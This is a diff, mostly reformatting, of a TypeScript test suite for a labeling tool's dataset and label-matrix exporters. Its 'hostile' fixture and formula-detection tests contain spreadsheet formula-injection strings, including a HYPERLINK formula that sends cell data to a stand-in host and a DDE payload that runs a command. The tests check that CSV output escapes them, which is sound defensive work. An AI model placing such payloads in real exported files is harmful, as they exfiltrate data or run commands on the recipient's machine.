@@ -53,7 +53,8 @@ function sample(n = 40, seed = 7): LabeledData {
   for (let i = 0; i < n; i++) {
     split[i] = i % 10 === 8 ? 1 : i % 10 === 9 ? 2 : 0;
     rows.push({ text: `row ${i}, "quoted"\nnew line é ${rnd().toFixed(3)}`, n: i * 1.5, flag: i % 2 === 0, label: 'original-label' });
-    const a = rnd(), b = rnd() * (1 - a);
+    const a = rnd(),
+      b = rnd() * (1 - a);
     proba.set([a, b, 1 - a - b], i * 3);
     labels[i] = i % 7 === 0 ? -1 : [a, b, 1 - a - b].indexOf(Math.max(a, b, 1 - a - b));
     source[i] = labels[i] < 0 ? 0 : 1 + (i % 3);
@@ -90,7 +91,10 @@ describe('labeled dataset writers', () => {
 
   it('JSONL round-trips and keeps types', () => {
     const d = sample();
-    const lines = toJsonl(d, selectRows(d, { includeEvalGold: true })).trimEnd().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
+    const lines = toJsonl(d, selectRows(d, { includeEvalGold: true }))
+      .trimEnd()
+      .split('\n')
+      .map((l) => JSON.parse(l) as Record<string, unknown>);
     expect(lines).toHaveLength(40);
     const cols = outputColumns(d.fields, d.classes);
     lines.forEach((r, i) => {
@@ -170,7 +174,11 @@ describe('label matrix writers', () => {
   it('JSON has names and row-major votes', () => {
     const L = new LabelMatrix(3, 2, [Int8Array.from([1, -1, 0]), Int8Array.from([-1, -1, 1])]);
     const j = JSON.parse(labelMatrixJson(L, ['a', 'b'], ['neg', 'pos'])) as { L: number[][]; lfs: string[]; n: number; m: number };
-    expect(j.L).toEqual([[1, -1], [-1, -1], [0, 1]]);
+    expect(j.L).toEqual([
+      [1, -1],
+      [-1, -1],
+      [0, 1],
+    ]);
     expect(j.lfs).toEqual(['a', 'b']);
     expect([j.n, j.m]).toEqual([3, 2]);
     expect(() => labelMatrixJson(L, ['a'], ['neg', 'pos'])).toThrow(/2 LFs/);
@@ -179,14 +187,36 @@ describe('label matrix writers', () => {
 
 /** Two classes, one of them formula-like; rows whose cells start with each dangerous character. */
 function hostile(): LabeledData {
-  const texts = ['=HYPERLINK("http://x.test/?"&A2,"click")', '+1+1', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1,1)', '\t=1', '\r=1', 'plain', '-3', '+1.5', '-2e-7', '-', '1-2'];
+  const texts = [
+    '=HYPERLINK("http://x.test/?"&A2,"click")',
+    '+1+1',
+    "-2+3+cmd|' /C calc'!A0",
+    '@SUM(1,1)',
+    '\t=1',
+    '\r=1',
+    'plain',
+    '-3',
+    '+1.5',
+    '-2e-7',
+    '-',
+    '1-2',
+  ];
   const n = texts.length;
   const rows = texts.map((t, i) => ({ id: `r${i}`, text: t, '=cmd': '=evil()', score: -3 - i, neg: i === 0 ? -Infinity : -0.5 }));
   const labels = Int32Array.from({ length: n }, (_, i) => (i === 6 ? -1 : i % 2));
   const proba = new Float32Array(n * 2);
   for (let i = 0; i < n; i++) proba.set([0.25, 0.75], i * 2);
   const source = Uint8Array.from(labels, (y) => (y < 0 ? 0 : 2));
-  return { fields: ['id', 'text', '=cmd', 'score', 'neg'], rows, classes: ['=1+1', 'label'], labels, proba, source, split: new Uint8Array(n), idField: 'id' };
+  return {
+    fields: ['id', 'text', '=cmd', 'score', 'neg'],
+    rows,
+    classes: ['=1+1', 'label'],
+    labels,
+    proba,
+    source,
+    split: new Uint8Array(n),
+    idField: 'id',
+  };
 }
 
 describe('spreadsheet-safe CSV', () => {
@@ -225,12 +255,33 @@ describe('spreadsheet-safe CSV', () => {
     expect(rows[0].neg).toBe("'-Infinity"); // …but a non-finite number is text, and escaped
     expect(rows[1].neg).toBe('-0.5');
     for (const lit of ['-3', '+3', '-0.5', '.5', '-1e5', '+2E-3', '-12.']) expect(FORMULA_CELL.test(lit)).toBe(false);
-    for (const bad of ['-', '+', '-3+1', '-1\n=cmd()', '-1\n', '-1e5)', '-3 ', '- 3', '=3', '@3', '\t3', '\r3', '-0x10', '+1,5', '-Infinity', '-NaN']) expect(FORMULA_CELL.test(bad)).toBe(true);
+    for (const bad of [
+      '-',
+      '+',
+      '-3+1',
+      '-1\n=cmd()',
+      '-1\n',
+      '-1e5)',
+      '-3 ',
+      '- 3',
+      '=3',
+      '@3',
+      '\t3',
+      '\r3',
+      '-0x10',
+      '+1,5',
+      '-Infinity',
+      '-NaN',
+    ])
+      expect(FORMULA_CELL.test(bad)).toBe(true);
   });
 
   it('JSONL and Parquet keep the same cells byte-exact', async () => {
     const d = hostile();
-    const lines = toJsonl(d).trimEnd().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
+    const lines = toJsonl(d)
+      .trimEnd()
+      .split('\n')
+      .map((l) => JSON.parse(l) as Record<string, unknown>);
     const pq = await readParquet(toParquet(d));
     for (const out of [lines, pq]) {
       expect(out.map((r) => r.text)).toEqual(d.rows.map((r) => r.text));
@@ -246,16 +297,39 @@ describe('joinable, split-aware labels', () => {
     const d = hostile();
     expect(header(d)).toEqual(['id', 'text', '=cmd', 'score', 'neg', 'label', 'label_id', 'p_=1+1', 'p_label', 'label_source', 'split']);
     const noId = { ...sample(), idField: null };
-    expect(header(noId)).toEqual(['row', 'text', 'n', 'flag', 'label', 'shoal_label', 'label_id', 'p_ham', 'p_spam', 'p_other', 'label_source', 'split']);
+    expect(header(noId)).toEqual([
+      'row',
+      'text',
+      'n',
+      'flag',
+      'label',
+      'shoal_label',
+      'label_id',
+      'p_ham',
+      'p_spam',
+      'p_other',
+      'label_source',
+      'split',
+    ]);
     // A field named row or split pushes ours aside; older column names do not move.
     const c = outputColumns(['row', 'split', 'label'], ['a'], null);
-    expect(c).toEqual({ id: 'shoal_row', split: 'shoal_split', label: 'shoal_label', labelId: 'label_id', source: 'label_source', proba: ['p_a'] });
+    expect(c).toEqual({
+      id: 'shoal_row',
+      split: 'shoal_split',
+      label: 'shoal_label',
+      labelId: 'label_id',
+      source: 'label_source',
+      proba: ['p_a'],
+    });
   });
 
   it('without an id field, `row` is the 1-based position of the row in the import, also after filtering', () => {
     const d = sample();
     const rows = selectRows(d, { onlyCovered: true });
-    const lines = toJsonl(d, rows).trimEnd().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
+    const lines = toJsonl(d, rows)
+      .trimEnd()
+      .split('\n')
+      .map((l) => JSON.parse(l) as Record<string, unknown>);
     expect(lines.map((r) => r.row)).toEqual(Array.from(rows, (i) => i + 1));
     expect(lines.map((r) => r.split)).toEqual(Array.from(rows, (i) => SPLITS[d.split[i]]));
   });
@@ -264,7 +338,10 @@ describe('joinable, split-aware labels', () => {
     const d: LabeledData = { ...sample(4), idField: 'doc', ids: ['a', 'b', 'c', 'd'] };
     d.rows = d.rows.map((r, i) => (i === 2 ? { ...r, doc: 42 } : r));
     const rows = Uint32Array.from([0, 1, 2, 3]);
-    const lines = toJsonl(d, rows).trimEnd().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
+    const lines = toJsonl(d, rows)
+      .trimEnd()
+      .split('\n')
+      .map((l) => JSON.parse(l) as Record<string, unknown>);
     expect(lines.map((r) => r.doc)).toEqual(['a', 'b', 42, 'd']); // the row's own value keeps its type
     expect(() => toCsv({ ...d, ids: ['a'] }, rows)).toThrow(/1 ids for 4 rows/);
   });
@@ -296,7 +373,7 @@ describe('joinable, split-aware labels', () => {
     expect((await readParquet(bytes)).map((r) => r.text)).toEqual(d.rows.map((r) => r.text));
   });
 
-    it('writes CSV in parts that join to the whole file', () => {
+  it('writes CSV in parts that join to the whole file', () => {
     const d = sample(23);
     const rows = selectRows(d, { includeEvalGold: true });
     const parts = Array.from(csvParts(d, rows, 5));
@@ -316,14 +393,23 @@ describe('joinable, split-aware labels', () => {
   ])('round trip %s (id field: %s)', (format, idField) => {
     it('re-imports with the same ids, splits and labels', async () => {
       const base = sample(120, 5);
-      const d: LabeledData = { ...base, fields: ['id', ...base.fields], rows: base.rows.map((r, i) => ({ id: `m-${(i * 7919) % 1000}`, ...r })), idField };
+      const d: LabeledData = {
+        ...base,
+        fields: ['id', ...base.fields],
+        rows: base.rows.map((r, i) => ({ id: `m-${(i * 7919) % 1000}`, ...r })),
+        idField,
+      };
       const rows = selectRows(d, { includeEvalGold: true, onlyCovered: true });
       expect(rows.length).toBeLessThan(120);
       const body = format === 'csv' ? toCsv(d, rows) : format === 'jsonl' ? toJsonl(d, rows) : toParquet(d, rows);
       const got = await collect(body, { fileName: `labels.${format}`, format });
       expect(got.result.ok).toBe(true);
       const cols = outputColumns(d.fields, d.classes, idField);
-      const plan = resolvePlan(got.result.ok ? got.result.columns : [], { idField: cols.id, labelField: cols.label, classes: d.classes.slice(), split: { kind: 'column', field: cols.split } }, 'labels');
+      const plan = resolvePlan(
+        got.result.ok ? got.result.columns : [],
+        { idField: cols.id, labelField: cols.label, classes: d.classes.slice(), split: { kind: 'column', field: cols.split } },
+        'labels',
+      );
       if ('code' in plan) throw new Error(plan.reason);
       const shaper = new RowShaper(plan, 'labels');
       got.rows.forEach((r: Row, t) => expect(shaper.shape(r, t + 1).ok).toBe(true));
@@ -360,7 +446,15 @@ describe('export provenance', () => {
     const d = sample();
     const rows = selectRows(d);
     const m = labelsMeta(d, rows, 'd.labels.csv', 'csv', {}, prov);
-    expect(m).toMatchObject({ format: 'shoal-labels-meta/1', file: 'd.labels.csv', rows: rows.length, includes_dev_test_gold: false, csv_formula_cells_escaped: true, lf_set_version: lfSetVersion(['a', 'b']), exported_at: prov.exported_at });
+    expect(m).toMatchObject({
+      format: 'shoal-labels-meta/1',
+      file: 'd.labels.csv',
+      rows: rows.length,
+      includes_dev_test_gold: false,
+      csv_formula_cells_escaped: true,
+      lf_set_version: lfSetVersion(['a', 'b']),
+      exported_at: prov.exported_at,
+    });
     expect(m.label_model).toEqual(prov.label_model);
     expect(m.rows_by_split.train + m.rows_by_split.dev + m.rows_by_split.test).toBe(rows.length);
     expect(m.rows_by_split.dev).toBe(Array.from(rows).filter((i) => d.split[i] === 1).length);
